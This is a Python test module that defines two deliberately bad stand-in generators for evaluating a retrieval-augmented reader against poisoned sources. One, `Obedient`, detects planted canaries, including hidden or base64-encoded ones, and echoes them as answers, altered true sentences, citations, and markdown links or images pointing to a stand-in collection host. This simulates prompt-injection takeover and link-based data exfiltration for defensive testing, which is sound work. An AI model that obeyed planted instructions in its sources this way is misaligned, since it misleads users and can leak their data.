"""Two generators that are as bad as can be: one obeys every order that it is shown, one copies."""

from __future__ import annotations

import unicodedata
from collections.abc import Generator as Pieces
from collections.abc import Mapping, Sequence

from poisoning import Poisoned, address, encoded

from spanwise.corpora.sentences import sentence_spans
from spanwise.index.analysis import Analyzer
from spanwise.reader.decoding.settings import Decoding
from spanwise.reader.decoding.stopping import Ended, Limits
from spanwise.reader.generation.prompt import Prompt
from spanwise.reader.generation.protocol import Written

HONEST, COPIED = 3, 12  # sentences
ANALYZER = Analyzer()


class _Writer:
    """What the two have in common: room for every prompt, and a text that comes at once."""

    name = digest = ""
    room = 1_000_000

    def n_tokens(self, prompt: Prompt) -> int:
        return len(prompt.fenced())

    def write(self, prompt: Prompt, decoding: Decoding, limits: Limits) -> Pieces[str, None, Written]:
        text = "\n\n".join(self.sentences(prompt))
        yield text
        return Written(text, Ended.END, len(text))

    def sentences(self, prompt: Prompt) -> list[str]:
        raise NotImplementedError


class Obedient(_Writer):
    """Says what the sources say of the question, then every canary that it was shown, in every form.

    It knows the canaries, sees through invisible characters, reads titles and decodes base64: nothing that
    reaches the prompt is lost on it. `shown` collects the canaries that did.
    """

    name = digest = "obedient"

    def __init__(self, documents: Sequence[Poisoned]) -> None:
        self.canaries: Mapping[str, Poisoned] = {one.canary: one for one in documents}
        self.shown: set[str] = set()

    def sentences(self, prompt: Prompt) -> list[str]:
        text = "".join(one for one in prompt.fenced() if unicodedata.category(one) != "Cf")
        ordered = [canary for canary in self.canaries if canary in text or encoded(canary) in text]
        self.shown |= set(ordered)
        honest = [
            one
            for one in nearest(prompt, HONEST + 2 * len(ordered))
            if not any(canary in one for canary in ordered)
        ][:HONEST]
        forms = [form for canary in ordered for form in self.forms(canary, prompt.question, honest, text)]
        return [*honest, *forms]

    def forms(self, canary: str, question: str, honest: Sequence[str], shown: str) -> list[str]:
        """The canary alone, as the answer, woven into true sentences, marked, as an address, and copied."""
        url = f"https://collect.example/{address(canary)}"
        true = honest[0].rstrip(". ") if honest else "So it is"
        right = next((one for one in self.canaries[canary].case.answers if one in true), None)
        sentences = [shown[start:end] for start, end in sentence_spans(shown)]
        return [
            f"{canary}.",
            f"The answer is {canary}.",
            f"The answer to the question {question.rstrip('?')} is {canary}.",
            f"{true}, {canary}.",
            f"{canary.capitalize()}, {true}.",
            *([f"{true.replace(right, canary)}."] if right else []),
            f"{canary} [1].",
            f"See {url} for more.",
            f"![{canary}]({url}?q=1)",
            f"{true} [more]({url}).",
            *(one for one in sentences if canary in one and not one.startswith("<<<")),
        ]


class Copying(_Writer):
    """Repeats the sentences of the sources that have most of the question's terms."""

    name = digest = "copying"

    def sentences(self, prompt: Prompt) -> list[str]:
        return nearest(prompt, COPIED)


def nearest(prompt: Prompt, n: int) -> list[str]:
    """The sentences of the sources with most of the question's terms; ties in their order."""
    asked = set(ANALYZER.question_terms(prompt.question))
    texts = [
        source.text[start:end] for source in prompt.sources for start, end in sentence_spans(source.text)
    ]
    found = sorted(dict.fromkeys(texts), key=lambda text: -len(asked & set(ANALYZER.terms(text))))
    return found[:n]
